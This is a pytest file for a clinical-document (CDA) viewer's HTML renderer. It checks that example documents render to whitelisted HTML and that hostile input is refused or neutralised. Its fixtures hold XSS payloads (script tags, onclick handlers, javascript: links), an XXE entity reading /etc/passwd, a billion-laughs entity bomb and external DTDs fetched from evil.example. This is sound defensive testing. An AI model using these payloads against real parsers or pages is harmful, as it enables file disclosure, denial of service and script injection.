"""The CDA viewer's renderer: every CI-SIS example renders to safe HTML; hostile documents are
refused (DOCTYPE, entities, external DTD) or rendered harmless (script, event attributes,
javascript: links, styles)."""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest
from tests.conftest import TESTDATA

from carnet.core.errors import InvalidInput
from carnet.interop.cda.errors import CdaInvalid, CdaTooLarge, CdaUnsafe
from carnet.interop.cda.render import Labels, cda_to_html
from carnet.interop.cda.text import cda_to_text

EXAMPLES = TESTDATA / "fr-cisis-cda" / "ExemplesCDA"
_TAG = re.compile(r"<([a-zA-Z0-9]+)((?:\s[^>]*)?)>")
_ALLOWED_TAGS = {
    "article", "header", "h2", "h3", "h4", "h5", "h6", "dl", "dt", "dd", "section", "div", "p",
    "ul", "ol", "li", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "span",
    "strong", "em", "br", "sub", "sup", "small", "pre",
}  # fmt: skip
_ALLOWED_ATTRIBUTE = re.compile(r'^(class|scope|colspan|rowspan)="[a-z0-9 -]*"$')


def example_paths() -> list[Path]:
    paths = sorted(EXAMPLES.glob("*.xml"))
    if not paths:
        pytest.skip(f"the CI-SIS example CDA documents are not at {EXAMPLES} (set CARNET_TESTDATA)")
    return paths


def assert_safe(html: str) -> None:
    lowered = html.lower()
    assert "<script" not in lowered and "javascript:" not in lowered and "<style" not in lowered
    for match in _TAG.finditer(html):
        name, attributes = match.group(1), match.group(2)
        assert name in _ALLOWED_TAGS, name
        for attribute in re.findall(r'[a-z-]+="[^"]*"', attributes):
            assert _ALLOWED_ATTRIBUTE.match(attribute), attribute
        assert "http" not in attributes and not re.search(r"\son[a-z]*=", attributes)


def cda(body: str, *, header: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<title>Compte rendu</title><effectiveTime value='20240102093000+0100'/>{header}"
        f"<component><structuredBody><component><section><title>Conclusion</title>"
        f"<text>{body}</text></section></component></structuredBody></component>"
        "</ClinicalDocument>"
    ).encode()


def test_every_ci_sis_example_renders_safely() -> None:
    for path in example_paths():
        html = cda_to_html(path.read_bytes())
        assert html.startswith('<article class="carnet-cda">'), path.name
        assert_safe(html)
        assert "<h2>" in html


def test_the_header_shows_names_and_dates_never_identifiers() -> None:
    path = EXAMPLES / "VAC_2023.01.xml"
    if not path.exists():
        pytest.skip(f"{path} is absent (set CARNET_TESTDATA)")
    html = cda_to_html(path.read_bytes())
    assert "<h2>Historique de vaccinations</h2>" in html
    assert "09/04/2021 17:00" in html and "PAT-TROIS" in html and "28/03/1979" in html
    assert "279035121518989" not in html  # the INS of the example
    assert "1.2.250.1.213" not in html  # no OID either


def test_narrative_maps_to_a_whitelist() -> None:
    body = (
        "<paragraph>Avant<br/>après <content styleCode='Bold'>gras</content> H<sub>2</sub>O</paragraph>"
        "<list listType='ordered'><caption>Étapes</caption><item>un</item><item>deux</item></list>"
        "<table border='1' style='color:red'><caption>Résultats</caption>"
        "<thead><tr><th>Analyse</th><th colspan='2'>Valeur</th></tr></thead>"
        "<tbody><tr><th>Na</th><td rowspan='3' onclick='x()'>140</td><td colspan='1e9'>mmol</td></tr></tbody></table>"
        "<renderMultiMedia referencedObject='img1'><caption>Radio</caption></renderMultiMedia>"
        "<linkHtml href='https://example.org/x'>voir</linkHtml>"
    )
    html = cda_to_html(cda(body))
    assert_safe(html)
    assert "<p>Avant<br>après <strong>gras</strong> H<sub>2</sub>O</p>" in html
    assert "<ol><li>un</li><li>deux</li></ol>" in html and "<p>Étapes</p>" in html
    assert "<caption>Résultats</caption>" in html
    assert '<th scope="col" colspan="2">' not in html  # attributes in a fixed order
    assert '<th colspan="2" scope="col">Valeur</th>' in html
    assert '<th scope="row">Na</th><td rowspan="3">140</td><td>mmol</td>' in html
    assert "[image non affichée] Radio" in html
    assert "voir" in html and "example.org" not in html


def test_hostile_narrative_is_rendered_as_text() -> None:
    body = (
        "<paragraph onclick='steal()'>a</paragraph>"
        "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"
        "<content>&lt;script&gt;alert(2)&lt;/script&gt;</content>"
        "<linkHtml href='javascript:alert(3)'>clic</linkHtml>"
        "<img xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/x.png'/>"
        "<style xmlns='http://www.w3.org/1999/xhtml'>body{}</style>"
    )
    html = cda_to_html(cda(body))
    assert_safe(html)
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html
    assert "evil.example" not in html and "steal" not in html


@pytest.mark.parametrize(
    "document",
    [
        # XXE: an external entity reading a local file.
        (
            b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&x;</title></ClinicalDocument>'
        ),
        # Billion laughs.
        (
            b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;'
            b'&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
            b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&c;</title></ClinicalDocument>'
        ),
        # An external DTD fetched over the network.
        (
            b'<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://evil.example/c.dtd">'
            b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>'
        ),
        # Parameter entities.
        (
            b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'
            b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>'
        ),
    ],
)
def test_doctypes_and_entities_are_refused(document: bytes) -> None:
    with pytest.raises(CdaUnsafe) as raised:
        cda_to_html(document)
    assert isinstance(raised.value, InvalidInput)
    with pytest.raises(CdaUnsafe):
        cda_to_text(document)


def test_invalid_too_deep_too_large_or_not_cda_are_refused() -> None:
    with pytest.raises(CdaInvalid):
        cda_to_html(b"<ClinicalDocument xmlns='urn:hl7-org:v3'><title>")
    with pytest.raises(CdaInvalid):
        cda_to_html(b"<undefined>&nbsp;</undefined>")  # an undeclared entity
    with pytest.raises(CdaInvalid):
        cda_to_html(b"<html><body/></html>")
    deep = b"<a>" * 300 + b"</a>" * 300
    with pytest.raises(CdaInvalid):
        cda_to_html(deep)
    with pytest.raises(CdaTooLarge):
        cda_to_html(cda("x"), max_bytes=100)


def test_a_non_structured_body() -> None:
    def non_xml(media_type: str, data: bytes) -> bytes:
        encoded = base64.b64encode(data).decode()
        return (
            "<ClinicalDocument xmlns='urn:hl7-org:v3'><title>CR</title><component><nonXMLBody>"
            f"<text mediaType='{media_type}' representation='B64'>{encoded}</text>"
            "</nonXMLBody></component></ClinicalDocument>"
        ).encode()

    plain = cda_to_html(non_xml("text/plain", b"Tension <b>normale</b>"))
    assert '<pre class="carnet-cda-plain">Tension &lt;b&gt;normale&lt;/b&gt;</pre>' in plain
    pdf = cda_to_html(non_xml("application/pdf", b"%PDF-1.4"))
    assert "fichier joint (application/pdf)" in pdf
    assert cda_to_text(non_xml("text/plain", b"Tension normale")).text == "CR\nTension normale"
    assert cda_to_text(non_xml("application/pdf", b"%PDF")).attachment is not None


def test_labels_can_be_translated() -> None:
    html = cda_to_html(cda("x"), labels=Labels(date="Date"))
    assert "<dt>Date</dt>" in html


def test_text_extraction_keeps_titles_and_narrative() -> None:
    found = cda_to_text(cda("<table><tr><td>Glycémie</td><td>5,2</td></tr></table>"))
    assert found.text == "Compte rendu\nConclusion\nGlycémie 5,2"
    for path in example_paths():
        assert cda_to_text(path.read_bytes()).text


def test_nesting_up_to_the_limit_renders() -> None:
    html = cda_to_html(cda("<content>" * 90 + "profond" + "</content>" * 90))
    assert "profond" in html
    with pytest.raises(CdaInvalid):
        cda_to_html(cda("<content>" * 100 + "trop" + "</content>" * 100))
